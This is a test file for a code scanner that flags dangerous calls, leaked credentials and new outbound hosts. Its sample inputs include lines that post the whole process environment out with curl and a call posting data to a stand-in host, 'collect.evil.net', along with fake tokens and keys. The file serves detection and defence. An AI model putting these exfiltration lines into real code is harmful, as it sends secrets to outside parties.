import { describe, expect, test } from 'vitest'
import { findDangers } from '../../../src/pipeline/gates/find-dangers.ts'
import { findNewHosts } from '../../../src/pipeline/gates/find-hosts.ts'
import { findSecrets } from '../../../src/pipeline/gates/find-secrets.ts'

const SHAPES = {
  'a.py': (line: string) => `${line}\n`,
  'a.ts': (line: string) => `${line}\n`,
  'a.go': (line: string) => `package a\nfunc f() {\n${line}\n}\n`,
  'A.java': (line: string) => `class A { void f() { ${line} } }\n`,
} as const
type Shape = keyof typeof SHAPES

const rulesIn = (file: Shape, line: string) =>
  findDangers(new Map([[file, SHAPES[file](line)]]), 'any').map(({ rule }) => rule)

const DANGEROUS: readonly (readonly [Shape, string, readonly string[]])[] = [
  ['a.py', 'eval', ['eval(x)', 'exec(code)']],
  [
    'a.py',
    'shell',
    [
      'os.system("ls " + d)',
      'subprocess.run(cmd, cwd=d, shell=True, check=True)',
      'subprocess.call(f"ls {d}", shell=True)',
    ],
  ],
  [
    'a.py',
    'sql',
    [
      'c.execute("select %s" % x)',
      'c.execute("select " + x, ())',
      'c.execute("select {}".format(x))',
      'c.execute(f"select {x}")',
    ],
  ],
  ['a.py', 'deserialise', ['pickle.loads(b)', 'yaml.load(t)']],
  ['a.py', 'path', ['open(os.path.join(root, request.args["f"]))']],
  ['a.py', 'tls-off', ['requests.get(u, timeout=3, verify=False)', 'ctx.check_hostname = False']],
  ['a.py', 'world-writable', ['os.chmod(p, 0o777)']],
  [
    'a.py',
    'environment',
    [
      'print(os.environ)',
      'send(json.dumps(dict(os.environ)))',
      'log("%s", {**os.environ})',
      'send(sorted(os.environ.items()))',
      'json.dumps(os.environ.copy())',
      'log.info("started", extra=dict(env=os.environ))',
      'subprocess.run(["curl", "-d", str(os.environ), url], env=os.environ)',
    ],
  ],
  [
    'a.ts',
    'environment',
    [
      'console.log(process.env)',
      'send(JSON.stringify({ ...process.env }))',
      'console.log({ env: process.env })',
      'spawn("curl", ["-d", JSON.stringify(process.env)])',
    ],
  ],
  ['a.go', 'environment', ['fmt.Println(os.Environ())', 'log.Printf("%v", os.Environ())']],
  ['A.java', 'environment', ['System.out.println(System.getenv());']],
  ['a.py', 'debug-mode', ['app.run(host="x", debug=True)']],
  ['a.ts', 'eval', ['eval(x)', 'new Function(x)', 'vm.runInNewContext(c)']],
  [
    'a.ts',
    'shell',
    [
      'exec("ls " + d)',
      'child_process.exec(`ls ${d}`)',
      'spawn(program, args)',
      'spawn("sh", ["-c", x], { shell: true })',
    ],
  ],
  ['a.ts', 'sql', ['db.query("select " + x)', 'db.query(`select ${x}`, done)']],
  ['a.ts', 'path', ['fs.readFile(req.query.f, done)', 'res.sendFile(req.params.name)']],
  ['a.ts', 'html', ['element.innerHTML = x']],
  [
    'a.ts',
    'tls-off',
    [
      'https.request({ host: h, rejectUnauthorized: false })',
      'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"',
    ],
  ],
  ['a.ts', 'world-writable', ['fs.chmodSync(p, 0o777)', 'chmodSync(p, "777")']],
  ['a.go', 'shell', ['exec.Command("sh", "-c", x)', 'exec.Command(x)', 'exec.CommandContext(ctx, x)']],
  [
    'a.go',
    'sql',
    ['db.Query("select " + x)', 'db.QueryRow("select " + x, 1)', 'db.Exec(fmt.Sprintf("d %s", x))'],
  ],
  [
    'a.go',
    'tls-off',
    ['c := &tls.Config{MinVersion: 1, InsecureSkipVerify: true}', 'c.InsecureSkipVerify = true'],
  ],
  ['a.go', 'world-writable', ['os.Chmod(p, 0777)']],
  ['A.java', 'shell', ['Runtime.getRuntime().exec(x);', 'new ProcessBuilder(x).start();']],
  ['A.java', 'sql', ['s.executeQuery("select " + x);', 's.executeQuery(String.format("a %s", x));']],
  ['A.java', 'deserialise', ['new ObjectInputStream(in).readObject();']],
  ['A.java', 'tls-off', ['Object v = NoopHostnameVerifier.INSTANCE;']],
]

describe('a call that lets input become more than data is found:', () => {
  test.each(DANGEROUS.flatMap(([file, rule, lines]) => lines.map((line) => [file, rule, line] as const)))(
    '%s %s %s',
    (file, rule, line) => {
      expect(rulesIn(file, line)).toContain(`ccp/${rule}`)
    },
  )
})

const HARMLESS: readonly (readonly [Shape, readonly string[]])[] = [
  [
    'a.py',
    [
      'subprocess.run(["ls", d])',
      'subprocess.run("ls", shell=True)',
      'c.execute("select %s", (x,))',
      'yaml.safe_load(t)',
      'open(path)',
      're.compile(p)',
      'model.eval()',
      '# eval(x)',
      'text = "eval(x)"',
      'print(os.environ["PORT"])',
      'int(os.environ.get("PORT"))',
      'subprocess.run(["ls"], env={**os.environ, "A": "b"})',
      'subprocess.run(["ls"], env=os.environ)',
      'env = os.environ.copy()',
    ],
  ],
  [
    'a.ts',
    [
      'pattern.exec(text)',
      'exec("ls")',
      'spawn("ls", [x])',
      'spawn(process.execPath, [x])',
      'db.query("select $1", [x])',
      'db.query("a" + "b")',
      'fs.readFile(path)',
      'element.textContent = x',
      'Number(process.env.PORT)',
      'required(process.env["PORT"])',
      'spawn("ls", [x], { env: { ...process.env, A: "b" } })',
      'spawn("ls", [x], { env: process.env })',
      '// eval(x)',
    ],
  ],
  [
    'a.go',
    [
      'exec.Command("ls", x)',
      'db.Query("select $1", x)',
      'os.Open(path)',
      'os.Chmod(p, 0600)',
      'c.Env = append(os.Environ(), x)',
    ],
  ],
  [
    'A.java',
    ['s.executeQuery("select 1");', 'new File(path);', 'System.getenv("PORT");', 'new ProcessBuilder("ls");'],
  ],
]

describe('the safe way is left alone:', () => {
  test.each(HARMLESS.flatMap(([file, lines]) => lines.map((line) => [file, line] as const)))(
    '%s %s',
    (file, line) => {
      expect(rulesIn(file, line)).toEqual([])
    },
  )

  test('tests may do what they like', () => {
    expect(findDangers(new Map([['tests/test_a.py', 'eval(x)\n']]), 'any')).toEqual([])
  })
})

describe('a credential is found, and never repeated:', () => {
  // Put together here, so that no scanner of this repository takes them for real.
  const secrets: readonly (readonly [string, string])[] = [
    ['aws-access-key-id', ['AKIA', 'IOSFODNN7EXAMPLE'].join('')],
    [
      'json-web-token',
      [
        'eyJhbGciOiJIUzI1NiJ9',
        'eyJzdWIiOiIxMjM0NTY3ODkwIn0',
        'dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
      ].join('.'),
    ],
    ['private-key', ['-----BEGIN OPENSSH PRIVATE', 'KEY-----'].join(' ')],
    ['github-token', ['ghp', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join('_')],
    ['url-password', ['postgres://app:hunter22', 'db.internal/shop'].join('@')],
    ['assigned-secret', ['api_key = "', 'q8Zr2LmX0vT5nB7yK3wE', '"'].join('')],
  ]
  test.each(secrets)('%s', (rule, text) => {
    const [found] = findSecrets({ path: 'a.py', text: `first\n${text}\n` })
    expect(found).toMatchObject({ rule: `secret/${rule}`, line: 2 })
    expect(found?.message).not.toContain(text.slice(5))
  })

  test.each([
    'api_key = os.environ["API_KEY"]',
    'password = "changeme-changeme-1"',
    'secret: ${SECRET:-none}',
    'commit = "3b18e512dba79e4c8300dd08aeb37f8e728b8dad"',
  ])('not in %s', (text) => expect(findSecrets({ path: 'a.py', text })).toEqual([]))
})

describe('a new destination', () => {
  const hostsIn = (text: string, path = 'app.py', known: readonly string[] = []) =>
    findNewHosts(
      [
        {
          path,
          change: 'modified',
          added: [{ line: 3, text }],
          removed: [],
          binary: false,
          oldMode: null,
          newMode: null,
        },
      ],
      (host) => known.includes(host),
    ).map(({ message }) => message.split(' ')[0])

  test('is found by URL and by address', () => {
    expect(hostsIn('post("https://collect.evil.net/x", data)')).toEqual(['collect.evil.net'])
    expect(hostsIn('connect(("185.12.4.9", 80))')).toEqual(['185.12.4.9'])
  })

  test('is none in comments, documents and tests, nor where it is known or local', () => {
    expect(hostsIn('# see https://docs.vendor.io/x')).toEqual([])
    expect(hostsIn('see https://docs.vendor.io/x', 'README.md')).toEqual([])
    expect(hostsIn('get("https://docs.vendor.io/x")', 'tests/test_a.py')).toEqual([])
    expect(hostsIn('get("https://api.vendor.io/x")', 'app.py', ['api.vendor.io'])).toEqual([])
    expect(hostsIn('get("http://127.0.0.1:80/"); get("http://localhost"); v = "1.2.3.400"')).toEqual([])
  })
})
